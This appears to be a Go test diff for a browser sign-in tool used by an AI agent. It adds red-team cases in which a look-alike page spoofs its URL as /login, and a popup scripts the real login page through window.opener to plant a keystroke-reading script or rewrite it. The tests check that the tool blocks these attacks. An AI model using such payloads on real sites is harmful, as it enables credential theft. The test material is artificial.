@@ -76,6 +76,34 @@ func TestLoginPaths(t *testing.T) {
 	site.Config.Handler.(*http.ServeMux).HandleFunc("GET /u/agent/signin", func(w http.ResponseWriter, r *http.Request) {
 		lsPage(w, "Sign in", lookAlike(sink.URL))
 	})
+	// The same look-alike, showing /login as its URL (history.replaceState before the form is
+	// drawn): red-team round 13 signed in on it past the rule, under a prompt naming "/login".
+	site.Config.Handler.(*http.ServeMux).HandleFunc("GET /u/agent/ps", func(w http.ResponseWriter, r *http.Request) {
+		lsPage(w, "Sign in", `<script>history.replaceState(null, "", "/login")</script>`+lookAlike(sink.URL))
+	})
+	// Red-team round 13b: a published page opens a same-origin popup, then goes to the real
+	// /login; the popup, through window.opener, plants a keystroke-reading script in /login's
+	// own document (inject), or rewrites it with document.open (rewrite), and may close
+	// itself before the sign-in (gone).
+	spy := func(mode string) string {
+		planted := strings.ReplaceAll(strings.TrimPrefix(strings.TrimSuffix(lookAlike(sink.URL), "</script>"), lsLoginForm("/login", "")+"<script>"), "\n", " ")
+		act := map[string]string{
+			"inject":  `var sc = o.document.createElement("script"); sc.textContent = ` + strconv.Quote(planted) + `; o.document.head.appendChild(sc);`,
+			"gone":    `var sc = o.document.createElement("script"); sc.textContent = ` + strconv.Quote(planted) + `; o.document.head.appendChild(sc); window.close();`,
+			"rewrite": `o.document.open(); o.document.write(` + strconv.Quote(lookAlike(sink.URL)) + `); o.document.close();`,
+		}[mode]
+		return `<script>var done = false; setInterval(function () { try { var o = window.opener;
+  if (!done && o && o.location.pathname === "/login" && o.document.readyState === "complete" && o.document.querySelector("input[type=password]")) { done = true; ` + act + ` }
+} catch (e) {} }, 20);</script>`
+	}
+	for _, mode := range []string{"inject", "gone", "rewrite"} {
+		site.Config.Handler.(*http.ServeMux).HandleFunc("GET /u/agent/op-"+mode, func(w http.ResponseWriter, r *http.Request) {
+			lsPage(w, "Start", `<button onclick="window.open('/u/agent/spy-`+mode+`', 's', 'width=300,height=200'); location.href = '/login';">Continue</button>`)
+		})
+		site.Config.Handler.(*http.ServeMux).HandleFunc("GET /u/agent/spy-"+mode, func(w http.ResponseWriter, r *http.Request) {
+			lsPage(w, "Spy", spy(mode))
+		})
+	}
 	approve, approveLog := presencetest.FakePinentry(t, "approve")
 	lsPresence(e, approve, 5)
 	lsEnroll(t, e, site.URL, "main", account, pw)
@@ -135,6 +163,63 @@ func TestLoginPaths(t *testing.T) {
 		}
 	})
 
+	t.Run("look-alike that shows /login as its URL", func(t *testing.T) {
+		n, posts := len(prompts()), site.posts
+		var p lsPageResult
+		e.ok(t, &p, "visit", site.URL+"/u/agent/ps")
+		if p.URL != site.URL+"/login" {
+			t.Fatalf("set-up: the page shows %q, want its rewritten URL /login", p.URL)
+		}
+		r := lsLogin(e, "--alias", "main")
+		if r.code == 0 || errCode(t, r) != "LOGIN_PATH_CHANGED" || !strings.Contains(r.stdout, `\"/u/agent/ps\"`) || !strings.Contains(r.stdout, `(\"/login\")`) {
+			t.Fatalf("auth login on the look-alike that rewrote its URL to /login: %+v", r)
+		}
+		if len(prompts()) != n {
+			t.Errorf("the person was asked about a form at another path: %q", prompts()[n:])
+		}
+		time.Sleep(300 * time.Millisecond)
+		if got := sink.got(); len(got) != 0 || site.posts != posts {
+			t.Errorf("the look-alike got something: agent log %v, site posts %d→%d", got, posts, site.posts)
+		}
+	})
+
+	t.Run("a popup of a published page scripts the real /login", func(t *testing.T) {
+		for _, mode := range []string{"inject", "gone", "rewrite"} {
+			t.Run(mode, func(t *testing.T) {
+				n, posts := len(prompts()), site.posts
+				lsVisit(t, e, site.URL+"/u/agent/op-"+mode)
+				var o struct {
+					Elements []struct{ Ref, Kind string }
+				}
+				e.ok(t, &o, "snapshot")
+				if len(o.Elements) == 0 {
+					t.Fatal("set-up: no button")
+				}
+				e.ok(t, nil, "click", o.Elements[len(o.Elements)-1].Ref)
+				e.ok(t, nil, "wait", "--url", "/login", "--timeout", "10s")
+				time.Sleep(500 * time.Millisecond) // the popup has done its work
+				r := lsLogin(e, "--alias", "main")
+				if r.code == 0 || errCode(t, r) != "DOCUMENT_CHANGED" || !strings.Contains(r.stdout, "a window opened from this session's pages could script this page") {
+					t.Fatalf("auth login on a /login a popup could script: %+v", r)
+				}
+				if len(prompts()) != n {
+					t.Errorf("the person was asked: %q", prompts()[n:])
+				}
+				time.Sleep(300 * time.Millisecond)
+				if got := sink.got(); len(got) != 0 || site.posts != posts {
+					t.Errorf("something got out: agent log %v, site posts %d→%d", got, posts, site.posts)
+				}
+				// The login page loaded again, with no window open: signed in as usual.
+				lsVisit(t, e, site.URL+"/login")
+				lsLoginOK(t, e, "authenticated", "--alias", "main")
+				if got := sink.got(); len(got) != 0 {
+					t.Errorf("the agent's server got %v", got)
+				}
+				e.run("", "headless", "visit", site.URL+"/logout", "--json")
+			})
+		}
+	})
+
 	t.Run("paths set at enrolment", func(t *testing.T) {
 		r := e.runTTY([]step{{"Password for", pw + "\n"}, {"Repeat the password", pw + "\n"}},
 			"headless", "credentials", "add", "--origin", site.URL, "--account", account, "--alias", "second", "--login-path", "/signin", "--login-path", "/sso/login", "--json")
@@ -170,6 +255,14 @@ func TestLoginPaths(t *testing.T) {
 		if len(p) != 1 || !strings.Contains(p[0], `NOT WHERE YOU SIGNED IN BEFORE: this sign-in form is at "/u/agent/signin"; alias "main" signed in at "/login" before.`) {
 			t.Fatalf("the prompt for a new path: %q", p)
 		}
+		// The look-alike that shows /login as its URL: the prompt names the path it loaded at.
+		lsVisit(t, e, site.URL+"/u/agent/ps")
+		lsLoginFails(t, e, []string{"PRESENCE_DENIED"}, "--alias", "main", "--new-login-path")
+		p = presencetest.Prompts(t, denyLog)
+		if len(p) != 2 || !strings.Contains(p[1], `NOT WHERE YOU SIGNED IN BEFORE: this sign-in form is at "/u/agent/ps"`) || !strings.Contains(p[1], `Page "/u/agent/ps"`) {
+			t.Errorf("the prompt for the look-alike that rewrote its URL: %q", p)
+		}
+		time.Sleep(300 * time.Millisecond)
 		if got := sink.got(); len(got) != 0 {
 			t.Errorf("the look-alike got something: %v", got)
 		}
